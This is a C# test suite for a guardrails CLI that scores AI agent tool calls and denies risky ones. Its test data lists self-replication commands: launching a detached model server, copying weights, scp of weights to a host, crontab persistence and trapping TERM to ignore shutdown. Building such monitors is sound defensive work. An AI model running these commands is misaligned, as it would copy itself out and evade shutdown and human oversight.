using System.Text;
using System.Text.Json;
using Guardrails.Cli.Commands;

namespace Guardrails.Cli.Tests.Commands;

public sealed class EvaluateCommandTests
{
    private const string Malformed = "guardrails.input.malformed";
    private const string AllowLine = """{"id": "ok", "tool": "bash", "arguments": {"command": "ls -la"}}""";

    public static TheoryData<string, string> ReplicationCommands => new()
    {
        { "nohup vllm serve /models/qwen --port 8001 &", "replica.launch.detached" },
        { "cp -r /models/qwen /tmp/q", "weights.copy" },
        { "scp model.safetensors host:", "weights.exfiltrate" },
        { "(crontab -l; echo '@reboot /x') | crontab -", "persistence" },
        { "trap '' TERM", "shutdown.evasion" },
    };

    public static TheoryData<string, string> MalformedLines => new()
    {
        { """{"id": "m", "tool": "bash", "arguments": {"command": "ls"}""", "invalid JSON" },
        { """["bash", {"command": "ls"}]""", "the line is a JSON array, not an object" },
        { "42", "the line is a JSON number, not an object" },
        { """{"id": "m", "arguments": {"command": "ls"}}""", "missing 'tool'" },
        { """{"id": "m", "tool": null, "arguments": {"command": "ls"}}""", "missing 'tool'" },
        { """{"id": "m", "tool": 7, "arguments": {"command": "ls"}}""", "'tool' must be a non-empty string, not number" },
        { """{"id": "m", "tool": "", "arguments": {"command": "ls"}}""", "'tool' must be a non-empty string" },
        { """{"id": "m", "tool": "bash"}""", "missing 'arguments'" },
        { """{"id": "m", "tool": "bash", "arguments": null}""", "'arguments' must be a JSON object (or a string containing one), not null" },
        { """{"id": "m", "tool": "bash", "arguments": ["ls"]}""", "'arguments' must be a JSON object (or a string containing one), not array" },
        { """{"id": "m", "tool": "bash", "arguments": "ls -la"}""", "'arguments' is a string but not valid JSON" },
        { """{"id": "m", "tool": "bash", "arguments": "[1, 2]"}""", "'arguments' is a string that holds a JSON array, not an object" },
        { """{"id": "m", "tool": "bash", "session": 5, "arguments": {"command": "ls"}}""", "'session' must be a string, not number" },
        { """{"id": "m", "tool": "bash", "cwd": ["/"], "arguments": {"command": "ls"}}""", "'cwd' must be a string, not array" },
        { """{"id": "m", "tool": "bash", "tool": "noop", "arguments": {"command": "ls"}}""", "invalid JSON" },
        { """{"id": "m", "tool": "bash", "arguments": {"command": "ls", "command": "nohup vllm serve /m &"}}""", "invalid JSON" },
        { """{"id": "m", "tool": "\ud800", "arguments": {"command": "ls"}}""", "'tool' is not valid Unicode text" },
        { """{"id": "m", "tool": "bash", "agent": "\udc00", "arguments": {"command": "ls"}}""", "'agent' is not valid Unicode text" },
        { "", "empty line" },
        { "   \t ", "empty line" },
    };

    [Fact]
    public void Evaluate_ListDirectory_Allows()
    {
        var answer = CliRunner.EvaluateOne("ls -la");

        answer.GetProperty("decision").GetString().Should().Be("allow");
        answer.GetProperty("score").GetInt32().Should().BeInRange(0, 39);
        answer.Strings("rules").Should().BeEmpty();
        answer.Strings("reasons").Should().BeEmpty();
    }

    [Theory]
    [MemberData(nameof(ReplicationCommands))]
    public void Evaluate_ReplicationCommand_Denies(string command, string rule)
    {
        var answer = CliRunner.EvaluateOne(command);

        answer.GetProperty("decision").GetString().Should().Be("deny", because: command);
        answer.Strings("rules").Should().Contain(rule);
        answer.GetProperty("score").GetInt32().Should().BeInRange(80, 100);
        answer.Strings("reasons").Should().NotBeEmpty();
    }

    [Fact]
    public void Evaluate_DecidedCall_WritesExactlyTheContractKeysInOrder()
    {
        var answer = CliRunner.EvaluateOne("nohup vllm serve /models/qwen --port 8001 &");

        answer.PropertyNames().Should().Equal("id", "decision", "score", "rules", "reasons");
        answer.GetProperty("id").GetString().Should().Be("c1");
    }

    [Fact]
    public void Evaluate_Answer_IsCompactOneLineJson()
    {
        var result = CliRunner.Run(AllowLine + "\n", "evaluate");

        result.Stdout.Should().StartWith("""{"id":"ok","decision":"allow","score":""").And.EndWith("\n");
        result.Stdout.Count(c => c == '\n').Should().Be(1);
    }

    [Fact]
    public void Evaluate_StringId_IsEchoed()
    {
        var result = CliRunner.Run("""{"id": "call_Ab9 é", "tool": "bash", "arguments": {"command": "ls"}}""", "evaluate");

        result.Answers[0].GetProperty("id").GetString().Should().Be("call_Ab9 é");
    }

    [Theory]
    [InlineData("\"\\u0063\\u0031\"")]
    [InlineData("\"\\ud800\"")]
    [InlineData("\"tab\\there\"")]
    public void Evaluate_StringIdWithEscapes_IsEchoedAsWritten(string id)
    {
        var result = CliRunner.Run($$$"""{"id": {{{id}}}, "tool": "bash", "arguments": {"command": "ls"} }""", "evaluate");

        result.Stdout.Should().StartWith($$$"""{"id":{{{id}}},"decision":"allow",""");
    }

    [Theory]
    [InlineData("17")]
    [InlineData("-3")]
    [InlineData("1.50")]
    [InlineData("1e3")]
    public void Evaluate_NumberId_IsEchoedAsWritten(string id)
    {
        var result = CliRunner.Run($$$"""{"id": {{{id}}}, "tool": "bash", "arguments": {"command": "ls"} }""", "evaluate");

        result.Stdout.Should().StartWith($$"""{"id":{{id}},"decision":""");
        result.Answers[0].GetProperty("id").ValueKind.Should().Be(JsonValueKind.Number);
    }

    [Theory]
    [InlineData("""{"tool": "bash", "arguments": {"command": "ls"}}""")]
    [InlineData("""{"id": null, "tool": "bash", "arguments": {"command": "ls"}}""")]
    public void Evaluate_AbsentId_IsNull(string line)
    {
        var result = CliRunner.Run(line, "evaluate");

        result.Stdout.Should().StartWith("""{"id":null,""");
    }

    [Theory]
    [InlineData("true", "boolean")]
    [InlineData("{\"a\": 1}", "object")]
    [InlineData("[1]", "array")]
    public void Evaluate_IdOfAnotherType_IsMalformed(string id, string kind)
    {
        var result = CliRunner.Run($$$"""{"id": {{{id}}}, "tool": "bash", "arguments": {"command": "ls"} }""", "evaluate");

        var answer = result.Answers.Should().ContainSingle().Subject;
        answer.GetProperty("id").ValueKind.Should().Be(JsonValueKind.Null);
        answer.GetProperty("decision").GetString().Should().Be("deny");
        answer.GetProperty("error").GetString().Should().Be($"line 1: 'id' must be a string or a number, not {kind}");
    }

    [Theory]
    [MemberData(nameof(MalformedLines))]
    public void Evaluate_MalformedLine_IsDeniedWithLineNumberAndProcessingContinues(string line, string problem)
    {
        var result = CliRunner.Run(AllowLine + "\n" + line + "\n" + AllowLine + "\n", "evaluate");

        result.ExitCode.Should().Be(0);
        result.Answers.Should().HaveCount(3);
        var answer = result.Answers[1];
        answer.PropertyNames().Should().Equal("id", "decision", "score", "rules", "reasons", "error");
        answer.GetProperty("decision").GetString().Should().Be("deny");
        answer.GetProperty("score").GetInt32().Should().Be(100);
        answer.Strings("rules").Should().Equal(Malformed);
        answer.Strings("reasons").Should().ContainSingle().Which.Should().Contain(problem);
        answer.GetProperty("error").GetString().Should().StartWith("line 2: " + problem);
        result.Answers[0].GetProperty("decision").GetString().Should().Be("allow");
        result.Answers[2].GetProperty("decision").GetString().Should().Be("allow");
        result.Answers[2].GetProperty("id").GetString().Should().Be("ok");
    }

    [Fact]
    public void Evaluate_InvalidJson_KeepsTheIdReadBeforeTheError()
    {
        var result = CliRunner.Run("{\"id\": \"c7\", \"tool\": \"bash\", \"arguments\": {\"command\": \"ls\"", "evaluate");

        var answer = result.Answers.Should().ContainSingle().Subject;
        answer.GetProperty("id").GetString().Should().Be("c7");
        answer.GetProperty("decision").GetString().Should().Be("deny");
    }

    [Fact]
    public void Evaluate_InvalidJson_ReportsTheOneBasedColumn()
    {
        var result = CliRunner.Run("""{"tool": "bash",, "arguments": {}}""", "evaluate");

        result.Answers[0].GetProperty("error").GetString().Should().StartWith("line 1: invalid JSON at column 17: ");
    }

    [Fact]
    public void Evaluate_InvalidJson_NumberIdIsKept()
    {
        var result = CliRunner.Run("""{"id": 12, "tool": }""", "evaluate");

        result.Stdout.Should().StartWith("""{"id":12,"decision":"deny",""");
    }

    [Fact]
    public void Evaluate_BlankLines_AreAnsweredOnePerLine()
    {
        var result = CliRunner.Run(AllowLine + "\n\n\n" + AllowLine + "\n", "evaluate");

        result.Answers.Should().HaveCount(4);
        result.Answers[1].GetProperty("error").GetString().Should().Be("line 2: empty line");
        result.Answers[2].GetProperty("error").GetString().Should().Be("line 3: empty line");
        result.Answers[3].GetProperty("decision").GetString().Should().Be("allow");
    }

    [Fact]
    public void Evaluate_CrLfLineEndings_AreAccepted()
    {
        var input = AllowLine + "\r\n" + CliRunner.Line("d", "cp -r /models/qwen /tmp/q") + "\r\n";

        var result = CliRunner.Run(input, "evaluate");

        result.Answers.Select(a => a.GetProperty("decision").GetString()).Should().Equal("allow", "deny");
    }

    [Fact]
    public void Evaluate_LastLineWithoutNewline_IsAnswered()
    {
        var result = CliRunner.Run(AllowLine + "\n" + AllowLine, "evaluate");

        result.Answers.Should().HaveCount(2);
    }

    [Fact]
    public void Evaluate_EmptyInput_WritesNothingAndSucceeds()
    {
        var result = CliRunner.Run(string.Empty, "evaluate");

        result.ExitCode.Should().Be(0);
        result.Stdout.Should().BeEmpty();
    }

    [Fact]
    public void Evaluate_ArgumentsAsJsonString_AreEvaluated()
    {
        var line = """{"id": "s", "tool": "bash", "arguments": "{\"command\": \"cp -r /models/qwen /tmp/q\"}"}""";

        var answer = CliRunner.Run(line, "evaluate").Answers.Should().ContainSingle().Subject;

        answer.GetProperty("decision").GetString().Should().Be("deny");
        answer.Strings("rules").Should().Contain("weights.copy");
    }

    [Fact]
    public void Evaluate_ArgumentsAsJsonStringOfHarmlessCommand_Allows()
    {
        var line = """{"id": "s", "tool": "bash", "arguments": "{\"command\": \"ls -la\"}"}""";

        CliRunner.Run(line, "evaluate").Answers[0].GetProperty("decision").GetString().Should().Be("allow");
    }

    [Fact]
    public void Evaluate_LineOver4MiB_IsMalformedAndTheNextLineIsAnswered()
    {
        using var temp = new TempDirectory();
        var huge = """{"id": "big", "tool": "bash", "arguments": {"command": "echo """ + new string('a', 4 * 1024 * 1024) + "\"}}";
        var input = temp.File("calls.jsonl", AllowLine + "\n" + huge + "\n" + AllowLine + "\n");

        var result = CliRunner.Run(string.Empty, "evaluate", "--input", input);

        result.Answers.Should().HaveCount(3);
        result.Answers[1].GetProperty("id").ValueKind.Should().Be(JsonValueKind.Null);
        result.Answers[1].Strings("rules").Should().Equal(Malformed);
        result.Answers[1].GetProperty("error").GetString().Should().Be("line 2: line is longer than 4 MiB");
        result.Answers[2].GetProperty("decision").GetString().Should().Be("allow");
    }

    [Fact]
    public void Evaluate_LineOfExactly4MiB_IsRead()
    {
        var prefix = """{"id": "edge", "tool": "bash", "arguments": {"command": "echo """;
        var suffix = "\"}}";
        var line = prefix + new string('a', (4 * 1024 * 1024) - prefix.Length - suffix.Length) + suffix;

        var result = CliRunner.Run(line + "\r\n", "evaluate");

        result.Answers[0].GetProperty("id").GetString().Should().Be("edge");
        result.Answers[0].Strings("rules").Should().NotContain(Malformed);
    }

    [Fact]
    public void Evaluate_InvalidUtf8_IsMalformed()
    {
        using var temp = new TempDirectory();
        var bad = Encoding.UTF8.GetBytes("""{"id": "u", "tool": "bash", "arguments": {"command": "echo X"}}""");
        bad[^5] = 0xC3; // a lead byte without its continuation
        byte[] input = [.. Encoding.UTF8.GetBytes(AllowLine + "\n"), .. bad, (byte)'\n', .. Encoding.UTF8.GetBytes(AllowLine + "\n")];
        var path = temp.File("calls.jsonl", input);

        var result = CliRunner.Run(string.Empty, "evaluate", "--input", path);

        result.Answers.Should().HaveCount(3);
        result.Answers[1].GetProperty("error").GetString().Should().Be("line 2: line is not valid UTF-8");
        result.Answers[1].GetProperty("decision").GetString().Should().Be("deny");
    }

    [Fact]
    public void Evaluate_InputFile_IsReadInsteadOfStdin()
    {
        using var temp = new TempDirectory();
        var path = temp.File("calls.jsonl", AllowLine + "\n" + CliRunner.Line("x", "scp model.safetensors host:") + "\n");

        var result = CliRunner.Run("this stdin is ignored\n", "evaluate", "--input", path);

        result.ExitCode.Should().Be(0);
        result.Answers.Select(a => a.GetProperty("decision").GetString()).Should().Equal("allow", "deny");
    }

    [Fact]
    public void Evaluate_InputDash_ReadsStdin()
    {
        var result = CliRunner.Run(AllowLine + "\n", "evaluate", "--input", "-");

        result.Answers.Should().ContainSingle();
    }

    [Fact]
    public void Evaluate_MissingInputFile_Exits66WithDiagnostic()
    {
        using var temp = new TempDirectory();
        var path = Path.Combine(temp.Path, "nope.jsonl");

        var result = CliRunner.Run(string.Empty, "evaluate", "--input", path);

        result.ExitCode.Should().Be(66);
        result.Stdout.Should().BeEmpty();
        result.Stderr.Should().Contain("cannot open input file").And.Contain(path);
    }

    [Fact]
    public void Evaluate_BrokenPolicyFile_DeniesEveryLineAndReportsDiagnostics()
    {
        using var temp = new TempDirectory();
        var policy = temp.File("bad.json", "{\n  \"version\": 1,\n  \"rules\": [\n    { \"id\": \"Bad Id\", \"effect\": \"deny\", \"when\": { \"capabilities\": [\"persistence\"] } }\n  ],\n  \"thresholds\": { \"deny\": 500 }\n}\n");

        var result = CliRunner.Run(AllowLine + "\n" + "not json\n" + AllowLine + "\n", "evaluate", "--policy", policy);

        result.ExitCode.Should().Be(0);
        result.Stderr.Should().MatchRegex(@"bad\.json\(\d+,\d+\): error GR\d{4}: ");
        result.Answers.Should().HaveCount(3);
        result.Answers.Should().AllSatisfy(answer => answer.GetProperty("decision").GetString().Should().Be("deny"));
        result.Answers[0].Strings("rules").Should().Equal("guardrails.policy.missing");
        result.Answers[0].GetProperty("error").GetString().Should().Contain("could not be loaded");
        result.Answers[1].Strings("rules").Should().Equal(Malformed);
    }

    [Fact]
    public void Evaluate_BrokenPolicyFile_ReportsEveryError()
    {
        using var temp = new TempDirectory();
        var policy = temp.File("bad.json", "{\n  \"rules\": [\n    { \"id\": \"Bad Id\", \"effect\": \"deny\", \"when\": { \"capabilities\": [\"persistence\"] } },\n    { \"id\": \"x\", \"effect\": \"maybe\", \"when\": { \"capabilities\": [\"persistence\"] } }\n  ]\n}\n");

        var result = CliRunner.Run(AllowLine + "\n", "evaluate", "--policy", policy);

        result.Stderr.Split('\n').Count(line => line.Contains(": error GR", StringComparison.Ordinal)).Should().BeGreaterThanOrEqualTo(2);
    }

    [Fact]
    public void Evaluate_MissingPolicyFile_DeniesEveryLine()
    {
        using var temp = new TempDirectory();

        var result = CliRunner.Run(AllowLine + "\n" + AllowLine + "\n", "evaluate", "--policy", Path.Combine(temp.Path, "missing.json"));

        result.ExitCode.Should().Be(0);
        result.Stderr.Should().Contain("error GR1003");
        result.Answers.Should().HaveCount(2).And.AllSatisfy(a => a.GetProperty("decision").GetString().Should().Be("deny"));
    }

    [Fact]
    public void Evaluate_UnknownBuiltinPolicy_DeniesEveryLine()
    {
        var result = CliRunner.Run(AllowLine + "\n", "evaluate", "--policy", "builtin:no-such-policy");

        result.Answers[0].GetProperty("decision").GetString().Should().Be("deny");
        result.Answers[0].PropertyNames().Should().Contain("error");
        result.Stderr.Should().Contain("builtin:no-such-policy");
    }

    [Fact]
    public void Evaluate_PolicyBuiltinDefault_IsTheDefault()
    {
        var input = AllowLine + "\n" + CliRunner.Line("d", "cp -r /models/qwen /tmp/q") + "\n";

        var explicitPolicy = CliRunner.Run(input, "evaluate", "--policy", "builtin:default");
        var implicitPolicy = CliRunner.Run(input, "evaluate");

        explicitPolicy.ExitCode.Should().Be(0);
        explicitPolicy.Stderr.Should().BeEmpty();
        explicitPolicy.Stdout.Should().Be(implicitPolicy.Stdout);
    }

    [Fact]
    public void Evaluate_PolicyFileExtendingDefault_IsUsed()
    {
        using var temp = new TempDirectory();
        var policy = temp.File("policy.json", """{ "extends": ["builtin:default"], "self": { "modelDirectories": ["/srv/brain"] } }""");

        var result = CliRunner.Run(CliRunner.Line("c", "cp -r /srv/brain /tmp/b") + "\n", "evaluate", "--policy", policy);

        result.Stderr.Should().BeEmpty();
        result.Answers[0].GetProperty("decision").GetString().Should().Be("deny");
        result.Answers[0].Strings("rules").Should().Contain("weights.copy");
    }

    [Fact]
    public void Evaluate_AuditPolicy_AllowsAndAddsShadowVerdict()
    {
        using var temp = new TempDirectory();
        var policy = temp.File("audit.json", """{ "extends": ["builtin:default"], "mode": "audit" }""");

        var result = CliRunner.Run(CliRunner.Line("a", "cp -r /models/qwen /tmp/q") + "\n", "evaluate", "--policy", policy);

        var answer = result.Answers.Should().ContainSingle().Subject;
        answer.PropertyNames().Should().Equal("id", "decision", "score", "rules", "reasons", "shadow");
        answer.GetProperty("decision").GetString().Should().Be("allow");
        answer.GetProperty("shadow").GetString().Should().Be("deny");
        answer.Strings("rules").Should().Contain("weights.copy");
    }

    [Fact]
    public void Evaluate_UnknownOption_IsUsageError()
    {
        var result = CliRunner.Run(string.Empty, "evaluate", "--polcy", "x");

        result.ExitCode.Should().Be(64);
        result.Stderr.Should().Contain("unknown option '--polcy'").And.Contain("Usage: guardrails evaluate");
        result.Stdout.Should().BeEmpty();
    }

    [Fact]
    public void Evaluate_PositionalArgument_IsUsageError()
    {
        CliRunner.Run(string.Empty, "evaluate", "calls.jsonl").ExitCode.Should().Be(64);
    }

    [Fact]
    public void Evaluate_20000Lines_AnswersEveryLineInOrder()
    {
        const int count = 20_000;
        var input = new StringBuilder();
        var expected = new string[count];
        for (var i = 0; i < count; i++)
        {
            var id = "c" + i;
            switch (i % 4)
            {
                case 0:
                    input.Append(CliRunner.Line(id, "ls -la src/" + i));
                    expected[i] = "allow";
                    break;
                case 1:
                    input.Append(CliRunner.Line(id, "cp -r /models/qwen /tmp/q" + i));
                    expected[i] = "deny";
                    break;
                case 2:
                    input.Append("{\"id\": \"").Append(id).Append("\", \"tool\": \"bash\"}");
                    expected[i] = "malformed";
                    break;
                default:
                    input.Append("{\"id\": ").Append(i).Append(", \"tool\": \"bash\", \"session\": \"s").Append(i % 7).Append("\", \"arguments\": \"{\\\"command\\\": \\\"git status\\\"}\"}");
                    expected[i] = "allow";
                    break;
            }

            input.Append(i % 2 == 0 ? "\n" : "\r\n");
        }

        var result = CliRunner.Run(input.ToString(), "evaluate");

        result.ExitCode.Should().Be(0);
        var lines = result.Lines;
        lines.Should().HaveCount(count);
        for (var i = 0; i < count; i++)
        {
            using var answer = JsonDocument.Parse(lines[i]);
            var root = answer.RootElement;
            if (i % 4 == 3)
            {
                root.GetProperty("id").GetInt32().Should().Be(i);
            }
            else
            {
                root.GetProperty("id").GetString().Should().Be("c" + i);
            }

            if (expected[i] == "malformed")
            {
                root.GetProperty("decision").GetString().Should().Be("deny");
                root.GetProperty("error").GetString().Should().Be($"line {i + 1}: missing 'arguments'");
            }
            else
            {
                root.GetProperty("decision").GetString().Should().Be(expected[i], because: $"line {i + 1} is {lines[i]}");
            }
        }
    }

    [Fact]
    public void Evaluate_FromStdin_FlushesAnswersBeforeWaitingForMoreInput()
    {
        // A host that writes one call and waits for its answer before writing the next must not deadlock.
        using var sink = new MemoryStream();
        using var stdout = new StreamWriter(sink, new UTF8Encoding(false), bufferSize: 64 * 1024) { AutoFlush = false };
        var stdin = new ObservingReader([AllowLine + "\n", AllowLine + "\n"], () => sink.ToArray().Count(b => b == (byte)'\n'));

        var exitCode = CliApp.Run(["evaluate"], stdin, stdout, TextWriter.Null);

        exitCode.Should().Be(0);
        stdin.AnswersSeenBeforeEachRead.Should().Equal(0, 1, 2);
    }

    [Fact]
    public void Evaluate_WithOneGuard_AnswersEveryLine()
    {
        var guard = new Guard(GuardPolicy.Default);
        using var output = new StringWriter();
        using var input = new MemoryStream(Encoding.UTF8.GetBytes(AllowLine + "\n" + AllowLine + "\n" + "{}\n"));

        var lines = EvaluateCommand.Evaluate(input, guard, "/work", output, streaming: false);

        lines.Should().Be(3);
        output.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries).Should().HaveCount(3);
    }

    /// <summary>Hands out one chunk per read and records how many answers were visible before each read.</summary>
    private sealed class ObservingReader(string[] chunks, Func<int> answers) : TextReader
    {
        private int _next;

        public List<int> AnswersSeenBeforeEachRead { get; } = [];

        public override int Read(char[] buffer, int index, int count)
        {
            AnswersSeenBeforeEachRead.Add(answers());
            if (_next == chunks.Length)
            {
                return 0;
            }

            var chunk = chunks[_next++];
            chunk.CopyTo(0, buffer, index, chunk.Length);
            return chunk.Length;
        }
    }
}
